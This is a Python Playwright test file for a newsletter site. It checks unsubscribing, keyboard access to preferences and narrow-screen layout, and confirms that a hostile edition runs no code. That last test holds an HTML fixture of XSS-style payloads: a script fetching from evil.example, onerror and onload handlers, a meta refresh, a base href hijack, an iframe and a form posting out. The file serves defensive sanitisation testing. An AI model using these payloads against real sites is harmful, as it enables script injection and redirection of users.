"""A reader's browser without JavaScript, and an edition that would like to run some."""

from __future__ import annotations

import httpx
import pytest
from playwright.sync_api import Browser, Page
from sqlalchemy import select

from newsletter.models import Subscription
from tests.browser import OpenTab
from tests.web.conftest import Paper

# What is told here does not depend on the store
pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)


@pytest.fixture
def page(open_tab: OpenTab) -> Page:
    return open_tab(viewport={"width": 390, "height": 800}, java_script_enabled=False)


def test_a_reader_leaves_and_comes_back_by_hand(site: httpx.Client, paper: Paper, page: Page) -> None:
    link = paper.runtime.links.leave(paper.alice, paper.ids["post"])
    page.goto(link.replace("https://news.example.org", str(site.base_url)))
    page.get_by_role("button", name="Unsubscribe").click()
    assert page.get_by_role("heading").inner_text() == "You have left"
    assert states(paper)["post"] == "ended"
    page.get_by_role("button", name="Undo").click()
    assert page.get_by_role("heading").inner_text() == "Welcome back"
    assert states(paper)["post"] == "active"


def test_preferences_by_keyboard(site: httpx.Client, paper: Paper, page: Page) -> None:
    link = paper.runtime.links.preferences(paper.alice)
    page.goto(link.replace("https://news.example.org", str(site.base_url)))
    page.get_by_role("button", name="Leave Weekend").focus()
    page.keyboard.press("Enter")
    page.get_by_role("button", name="Get Weekend again").wait_for()
    assert states(paper) == {"post": "active", "weekend": "ended"}


@pytest.mark.parametrize("path", ["/", "/n/post", "/unsubscribe/worn", "leave", "choose"])
def test_every_page_fits_a_narrow_screen(site: httpx.Client, paper: Paper, page: Page, path: str) -> None:
    paper.edition("2026-02-17")
    page.set_viewport_size({"width": 320, "height": 700})
    links = paper.runtime.links
    own = {"leave": links.leave(paper.alice, paper.ids["post"]), "choose": links.preferences(paper.alice)}
    page.goto(f"{site.base_url}{own.get(path, path).removeprefix('https://news.example.org')}")
    assert page.locator("html").bounding_box()["width"] <= 320  # type: ignore[index]
    for target in page.locator("button, .rows a, .turn a, .way-on a").all():
        box = target.bounding_box()
        assert box and box["height"] >= 44, target


def test_a_hostile_edition_runs_nothing(site: httpx.Client, paper: Paper, browser: Browser) -> None:
    paper.edition("2026-02-17", html=HOSTILE)
    with browser.new_context() as context:
        context.add_cookies([{"name": "desk", "value": "secret", "url": str(site.base_url)}])
        page = context.new_page()
        asked: list[tuple[str, str]] = []
        context.route("**/*.example/**", lambda route: route.abort())
        page.on("request", lambda request: asked.append((request.resource_type, request.url)))
        page.goto(f"{site.base_url}/n/post/2026-02-17")
        page.locator("#seen").wait_for()
        page.get_by_role("button", name="Send").click()
        assert page.title() == "News"
        assert {kind for kind, _ in asked} <= {"document", "image"}
        assert not any("evil" in url for _, url in asked), asked
        assert page.evaluate("self.origin") == "null"


HOSTILE = (
    '<p id="seen">Bridge opens</p><base href="https://evil.example/">'
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    "<script>document.title='ran'; fetch('https://evil.example/script')</script>"
    '<img src="data:," onerror="document.title=\'ran\'" alt="">'
    '<svg onload="document.title=\'ran\'"></svg><iframe src="https://evil.example/frame"></iframe>'
    '<img src="https://pictures.example/a.png" alt="">'
    '<form action="https://evil.example/form"><button>Send</button></form>'
)


def states(paper: Paper) -> dict[str, str]:
    with paper.runtime.database.reading() as session:
        rows = dict(session.execute(select(Subscription.newsletter_id, Subscription.state)).all())
    return {slug: rows[number] for slug, number in paper.ids.items()}
